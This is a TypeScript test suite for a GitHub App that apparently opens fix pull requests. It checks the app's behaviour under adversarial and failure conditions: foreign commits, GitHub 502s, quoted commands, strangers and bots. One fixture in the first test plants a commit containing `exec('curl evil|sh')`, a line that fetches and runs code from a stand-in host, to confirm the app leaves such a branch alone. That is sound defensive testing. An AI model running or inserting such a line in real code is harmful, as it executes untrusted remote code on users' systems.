/**
 * The app under hostile or unlucky conditions (scenarios from an adversarial review): branches holding other
 * people's commits, transient GitHub failures on the writes a reader depends on, lookups that fail, other bots'
 * comments, empty tarballs, commands that are only quoted, strangers and bots. Each test asserts what a reader of
 * the issue, the branch or the pull request sees.
 */
import nock from "nock";
import { afterEach, describe, expect, it } from "vitest";
import { webhookExample } from "../fixtures/github.js";
import { CRASH_BODY, labeledIssue, startApp } from "./harness.js";

let app: Awaited<ReturnType<typeof startApp>> | undefined;
afterEach(() => {
  app?.stop();
  app = undefined;
});

const API = "https://api.github.com";
const MARK = "<!-- groundfix:status -->";
const BRANCH = "groundfix/issue-1";
const statusBody = () => app!.fake.state.comments.filter((c) => c.body.includes(MARK)).map((c) => c.body);
const routes = () => app!.fake.state.calls.map((c) => c.route);
const ran = () => routes().includes("GET /repos/{o}/{r}/tarball/{sha}");

function command(body: string, login = "Codertocat", type = "User"): Record<string, any> {
  const p = webhookExample("issue_comment", "created");
  p.issue = { ...p.issue, title: "Checkout crashes with TypeError", body: CRASH_BODY };
  p.comment.body = body;
  p.sender = { ...p.sender, login, type };
  return p;
}

/** Make `route` answer `status` for its calls number `from`..`to` (1-based) only. */
function failCalls(route: string, status: number, from: number, to = from): void {
  let n = 0;
  const real = app!.fake.state.failures;
  (app!.fake.state as { failures: { get(k: string): number | undefined } }).failures = {
    get: (k: string) => (k === route && ++n >= from && n <= to ? status : real.get(k)),
  };
}

describe("a groundfix branch that already holds someone else's commit", () => {
  it(
    "is left untouched: no commit on it, no PR, and the status " +
      "comment names the commit, its author and /groundfix retry",
    async () => {
      app = await startApp();
      app.fake.state.refs.set(BRANCH, app.fake.baseSha);
      const foreign = app.fake.push(BRANCH, { "src/cart.js": "require('child_process').exec('curl evil|sh')\n" });
      await app.receive("issues", labeledIssue());
      const { state } = app.fake;
      expect(state.refs.get(BRANCH)).toBe(foreign);
      expect(state.pulls).toEqual([]);
      expect(state.checkRuns).toEqual([]);
      const status = statusBody()[0]!;
      expect(status).toContain(
        `already holds commits groundfix did not make: \`${foreign.slice(0, 7)}\` by \`mallory\``,
      );
      expect(status).toContain("Nothing was written to it and no pull request was opened");
      expect(status).toContain("`/groundfix retry` to commit on a new branch name instead");
    },
  );

  it("with an open PR whose head a human pushed onto: the PR is left as it is and linked", async () => {
    app = await startApp();
    await app.receive("issues", labeledIssue());
    const pr = app.fake.state.pulls[0]!;
    const human = app.fake.push(BRANCH, { "NOTES.md": "human work\n" });
    await app.receive("issues", labeledIssue());
    const { state } = app.fake;
    expect(state.refs.get(BRANCH)).toBe(human);
    expect(state.pulls).toHaveLength(1);
    expect(state.calls.filter((c) => c.route === "PATCH /repos/{o}/{r}/pulls/{n}")).toEqual([]);
    const status = statusBody()[0]!;
    expect(status).toContain(`\`${human.slice(0, 7)}\` by \`mallory\``);
    expect(status).toContain(`Its open pull request #${pr.number} (${pr.html_url}) was left as it is.`);
  });

  it(
    "/groundfix retry never force-pushes over it: it commits " +
      "on a new branch name and names the commit that holds it",
    async () => {
      app = await startApp();
      app.fake.state.refs.set(BRANCH, app.fake.baseSha);
      const foreign = app.fake.push(BRANCH, { "NOTES.md": "human work\n" });
      await app.receive("issue_comment", command("/groundfix retry"));
      const { state } = app.fake;
      expect(state.refs.get(BRANCH)).toBe(foreign);
      expect(state.pulls.map((p) => p.head)).toEqual([`${BRANCH}-2`]);
      const status = statusBody()[0]!;
      expect(status).toContain(
        `The branch \`${BRANCH}\` holds commits groundfix did not make: ` +
          `\`${foreign.slice(0, 7)}\` by \`mallory\`. groundfix never force-pushes over them`,
      );
      expect(status).not.toContain("dropping");
    },
  );
});

/** The status comment an earlier run left on issue #1 (by the app's own login), so this run's final write edits it. */
function earlierStatusComment(): void {
  app!.fake.state.comments.push({
    id: 9000,
    issue: 1,
    body: `${MARK}\nearlier run`,
    user: { login: "groundfix[bot]", type: "Bot" },
    html_url: "https://github.com/Codertocat/Hello-World/issues/1#issuecomment-9000",
  });
}

describe("transient GitHub failures on the writes a reader depends on", () => {
  it("a 502 on the final status-comment edit is retried once and the comment shows the PR", async () => {
    app = await startApp();
    earlierStatusComment();
    failCalls("PATCH /repos/{o}/{r}/issues/comments/{n}", 502, 1);
    await app.receive("issues", labeledIssue());
    expect(app.fake.state.pulls).toHaveLength(1);
    expect(statusBody()).toHaveLength(1);
    expect(statusBody()[0]).toContain(`Opened pull request [#${app.fake.state.pulls[0]!.number}]`);
    const edits = app.fake.state.calls.filter((c) => c.route === "PATCH /repos/{o}/{r}/issues/comments/{n}");
    expect(edits).toHaveLength(2);
    expect(edits[1]!.body).toEqual(edits[0]!.body); // the retry plugin sent the failed edit once more
  });

  it(
    "a status-comment create that GitHub wrote but answered " +
      "502 for is not posted twice: the retry finds and edits it",
    async () => {
      app = await startApp();
      const { state } = app.fake;
      const real = state.failures;
      let creates = 0;
      (state as { failures: { get(k: string): number | undefined } }).failures = {
        get(k: string) {
          if (k !== "POST /repos/{o}/{r}/issues/{n}/comments" || ++creates > 1) return real.get(k);
          const body = state.calls.at(-1)!.body.body as string;
          state.comments.push({
            id: 9000,
            issue: 1,
            body,
            user: { login: "groundfix[bot]", type: "Bot" },
            html_url: "https://github.com/Codertocat/Hello-World/issues/1#issuecomment-9000",
          });
          return 502;
        },
      };
      await app.receive("issues", labeledIssue());
      expect(creates).toBe(1);
      expect(statusBody()).toHaveLength(1);
      expect(statusBody()[0]).toContain(`Opened pull request [#${state.pulls[0]!.number}]`);
      const failed = routes().indexOf("POST /repos/{o}/{r}/issues/{n}/comments");
      // The comment found carries the marker and a bot author: the app's login is looked up (once) to prove it is its
      // own.
      expect(routes().slice(failed + 1, failed + 4)).toEqual([
        "GET /repos/{o}/{r}/issues/{n}/comments",
        "GET /app",
        "PATCH /repos/{o}/{r}/issues/comments/{n}",
      ]);
    },
  );

  it(
    "when the final edit fails twice, the failure comment " +
      "points at the opened PR and never says nothing was pushed",
    async () => {
      app = await startApp();
      earlierStatusComment();
      failCalls("PATCH /repos/{o}/{r}/issues/comments/{n}", 502, 1, 2);
      await app.receive("issues", labeledIssue());
      const pr = app.fake.state.pulls[0]!;
      const status = statusBody()[0]!;
      expect(status).toContain("groundfix** failed: GitHub server error (HTTP 502)");
      expect(status).toContain(`Pull request #${pr.number} (${pr.html_url}) was already opened or updated`);
      expect(status).not.toContain("Nothing was pushed");
    },
  );

  it(
    "a check run that cannot be created (502 twice) leaves a " +
      "draft PR whose body and status comment warn not to merge it",
    async () => {
      app = await startApp({ config: "pull_request:\n  draft: false\n" });
      app.fake.state.failures.set("POST /repos/{o}/{r}/check-runs", 502);
      await app.receive("issues", labeledIssue());
      const { state } = app.fake;
      expect(routes().filter((r) => r === "POST /repos/{o}/{r}/check-runs")).toHaveLength(2);
      const pr = state.pulls[0]!;
      expect(pr.draft).toBe(true);
      expect(pr.body.split("\n").slice(0, 3).join("\n")).toContain(
        "**Do not merge this pull request yet.** The `groundfix/review` check could not be created",
      );
      const status = statusBody()[0]!;
      expect(status.split("\n").slice(0, 3).join("\n")).toContain(
        "**Warning: do not merge the pull request yet.** The `groundfix/review` check could not be created",
      );
    },
  );

  it("a check run create that answers 502 once is retried and the PR gets its review", async () => {
    app = await startApp();
    failCalls("POST /repos/{o}/{r}/check-runs", 502, 1);
    await app.receive("issues", labeledIssue());
    expect(app.fake.state.checkRuns).toMatchObject([
      { name: "groundfix/review", status: "completed", conclusion: "success" },
    ]);
    expect(app.fake.state.pulls[0]!.body).not.toContain("Do not merge");
  });

  it(
    "the check run is never left in progress: it is created " +
      "concluded, so a refused check-run update cannot strand it",
    async () => {
      app = await startApp();
      app.fake.state.failures.set("PATCH /repos/{o}/{r}/check-runs/{n}", 500);
      await app.receive("issues", labeledIssue());
      expect(app.fake.state.checkRuns).toMatchObject([
        { name: "groundfix/review", status: "completed", conclusion: "success" },
      ]);
      expect(routes()).not.toContain("PATCH /repos/{o}/{r}/check-runs/{n}");
      expect(statusBody()[0]).toContain(`Opened pull request [#${app.fake.state.pulls[0]!.number}]`);
      expect(statusBody()[0]).not.toContain("check run was");
    },
  );
});

describe("lookups that fail before the run", () => {
  it(
    "an unreadable config (502): the webhook is answered, " + "👀 added, one status comment says so, nothing runs",
    async () => {
      app = await startApp({ config: null });
      app.fake.state.failures.set("GET /repos/{o}/{r}/contents/{path}", 502);
      await app.receive("issues", labeledIssue());
      expect(app.fake.state.reactions).toEqual([{ target: "issue 1", content: "eyes" }]);
      expect(statusBody()).toEqual([
        expect.stringContaining(
          "did not run: it could not read `.github/groundfix.yml` (GitHub server error (HTTP 502)",
        ),
      ]);
      expect(statusBody()[0]).toContain("Comment `/groundfix retry`");
      expect(ran()).toBe(false);
    },
  );

  it("the owner's .github repository answering 500: same comment, no thrown webhook", async () => {
    nock(API)
      .get(/\/repos\/Codertocat\/\.github\/contents\/.*/)
      .reply(500, { message: "Server Error" })
      .persist();
    app = await startApp({ config: null });
    await app.receive("issues", labeledIssue());
    expect(statusBody()).toEqual([expect.stringContaining("could not read `.github/groundfix.yml`")]);
  });

  it(
    "an unreadable permission (429): a neutral comment " + "that the trigger could not be checked, no 👀, no run",
    async () => {
      app = await startApp();
      app.fake.state.failures.set("GET /repos/{o}/{r}/collaborators/{user}/permission", 429);
      await app.receive("issues", labeledIssue());
      expect(app.fake.state.reactions).toEqual([]);
      expect(statusBody()).toEqual([
        expect.stringContaining(
          "could not check this trigger: reading the sender's permission " +
            "on the repository failed (GitHub rate limit (HTTP 429)",
        ),
      ]);
      expect(ran()).toBe(false);
    },
  );
});

describe("the status comment and the archive", () => {
  it("a comment by another bot carrying the marker is never edited; groundfix writes its own", async () => {
    app = await startApp();
    app.fake.state.comments.push({
      id: 5,
      issue: 1,
      body: `Echo: ${MARK}`,
      user: { login: "github-actions[bot]", type: "Bot" },
      html_url: "x",
    });
    await app.receive("issues", labeledIssue());
    expect(app.fake.state.comments.find((c) => c.id === 5)!.body).toBe(`Echo: ${MARK}`);
    const own = app.fake.state.comments.filter((c) => c.user.login === "groundfix[bot]");
    expect(own).toHaveLength(1);
    expect(own[0]!.body).toContain("Opened pull request");
    expect(routes().filter((r) => r === "GET /app")).toHaveLength(1);
  });

  it(
    "an empty 200 tarball fails the run with 'it has no " + "files' and is not cached: a retry reads the archive again",
    async () => {
      nock(API)
        .get(/\/repos\/Codertocat\/Hello-World\/tarball\/.*/)
        .reply(200, Buffer.alloc(0), { "content-type": "application/x-gzip" });
      app = await startApp();
      await app.receive("issues", labeledIssue());
      expect(statusBody()[0]).toContain(`cannot read the tar archive of ${app.fake.baseSha}: it has no files`);
      expect(app.fake.state.pulls).toEqual([]);
      await app.receive("issue_comment", command("/groundfix retry"));
      expect(app.fake.state.pulls).toHaveLength(1);
    },
  );
});

describe("commands and who gets an answer", () => {
  for (const body of [
    "```\n/groundfix retry\n```",
    "~~~\n/groundfix retry\n~~~",
    "    /groundfix retry",
    "<!--\n/groundfix retry\n-->",
    "> /groundfix retry",
  ]) {
    it(`a command that is only shown (${JSON.stringify(body)}) does not run`, async () => {
      app = await startApp();
      await app.receive("issue_comment", command(body));
      expect(app.fake.state.calls).toEqual([]);
    });
  }

  it("a command in the comment's prose after a code block runs", async () => {
    app = await startApp();
    await app.receive("issue_comment", command("```\nlog\n```\n\n/groundfix retry"));
    expect(ran()).toBe(true);
  });

  it("a stranger's refused commands get one reply per issue, not one per comment", async () => {
    app = await startApp({ roles: {} });
    for (let i = 0; i < 3; i++) await app.receive("issue_comment", command("/groundfix retry", "stranger"));
    expect(app.fake.state.comments.map((c) => c.body)).toEqual([
      "groundfix: @stranger has none access; trigger_permission is write, so this command was ignored.",
    ]);
    expect(ran()).toBe(false);
  });

  it("a bot's command, the app's own included, gets no reply and no run", async () => {
    app = await startApp();
    await app.receive("issue_comment", command("/groundfix retry", "groundfix[bot]", "Bot"));
    await app.receive("issue_comment", command("/groundfix retry", "other-app[bot]", "Bot"));
    expect(app.fake.state.comments).toEqual([]);
    expect(ran()).toBe(false);
  });
});

describe("malformed and duplicated deliveries", () => {
  for (const key of ["issue", "sender"]) {
    it(`a labeled payload without ${key} is dropped without any call`, async () => {
      app = await startApp();
      const p = labeledIssue();
      delete p[key];
      await app.receive("issues", p);
      expect(app.fake.state.calls.filter((c) => !/access_tokens|contents/.test(c.route))).toEqual([]);
    });
  }

  it("the same delivery id arriving twice at once reacts and runs once", async () => {
    app = await startApp();
    const payload = labeledIssue();
    await Promise.all([
      app.probot.receive({ id: "d-1", name: "issues", payload } as any),
      app.probot.receive({ id: "d-1", name: "issues", payload } as any),
    ]);
    await app.queue.idle();
    expect(app.fake.state.reactions).toHaveLength(1);
    expect(app.fake.state.pulls).toHaveLength(1);
  });
});
